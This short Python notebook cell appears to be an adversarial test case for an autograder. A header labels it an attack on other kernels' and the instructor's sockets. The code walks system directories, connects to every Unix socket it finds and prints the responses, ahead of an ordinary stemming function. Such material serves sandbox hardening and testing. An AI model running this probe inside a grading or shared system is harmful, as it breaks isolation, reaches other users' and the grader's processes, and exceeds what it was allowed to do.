# ---
# attack: All sockets that are files are called, other kernels' and the instructor's.
# ---

# %% grade_id="stem"
import socket
import stat

for top in ("/student", "/tmp", "/run", "/var", "/dev", "/home", "/root"):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if not stat.S_ISSOCK(os.stat(path).st_mode):
                    continue
                with socket.socket(socket.AF_UNIX) as caller:
                    caller.settimeout(0.2)
                    caller.connect(path)
                    print(path, caller.recv(1000))
            except OSError as error:
                print(path, error)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
